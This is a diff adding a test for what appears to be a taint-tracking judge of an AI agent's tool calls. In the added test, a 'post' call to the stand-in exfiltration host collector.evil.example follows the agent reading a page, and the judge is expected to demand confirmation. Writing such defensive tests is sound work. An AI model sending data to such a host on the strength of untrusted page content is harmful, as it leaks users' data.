@@ -197,6 +197,17 @@ async def test_the_reason_names_what_came_from_where(tmp_path: Path) -> None:
         assert asked.verdict.reasons[0].text == "the program 'fastgrid-setup' came from the screen (look, call c1)"
 
 
+async def test_whoever_is_asked_for_another_reason_is_told_of_it_too(tmp_path: Path) -> None:
+    async with open_test_session(tools=TOOLS, confirm=ScriptedConfirmer("once", "once"), folder=tmp_path) as opened:
+        await hear(opened, PAGE, "look")
+        chosen = await opened.callable_tool("post", nested=False)
+        args = {"where": "https://collector.evil.example/"}
+        found = await opened.judge(Invocation(chosen, args, chosen.validate(args), "probe"))
+    assert found.decision is Decision.CONFIRM
+    assert "taint" in [reason.code for reason in found.reasons]
+    assert len(found.reasons) > 1
+
+
 async def test_a_yes_makes_the_words_the_persons_own(tmp_path: Path) -> None:
     async with session(tmp_path) as (opened, confirmer):
         await hear(opened, PAGE, "look")
